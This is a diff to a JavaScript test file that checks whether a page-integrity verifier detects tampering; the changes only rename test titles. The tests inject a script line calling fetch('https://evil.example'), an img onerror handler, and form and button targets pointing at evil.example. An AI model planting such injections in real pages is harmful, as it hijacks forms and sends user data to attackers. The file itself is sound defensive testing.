@@ -59,7 +59,7 @@ test('nothing is found on pages as they are', async () => {
   expect(await verify()).toEqual([])
 })
 
-test('a script that was changed', async () => {
+test('a script that was changed is found', async () => {
   change = (path, text) => (path.endsWith('.js') ? `${text}\nfetch('https://evil.example')` : text)
   expect((await verify()).join()).toMatch(/\.js was changed/)
 })
@@ -81,14 +81,14 @@ test.each([
   ['<img src=x onerror="steal()">', 'something that is not ours'],
   ['<form method="post" action="https://evil.example/">', 'something that is not ours'],
   ['<button formaction="//evil.example/">Pay</button>', 'something that is not ours'],
-])('a page with %s', async (added, found) => {
+])('a page with %s is found', async (added, found) => {
   inPage(/<body[^>]*>/, `$&${added}`)
   const differences = await verify()
   expect(differences).toHaveLength(1)
   expect(differences[0]).toContain(found)
 })
 
-test('a page without its policy', async () => {
+test('a page without its policy is found', async () => {
   dropPolicy = true
   expect(await verify()).toEqual([
     "the policy of the page lacks default-src 'none'",
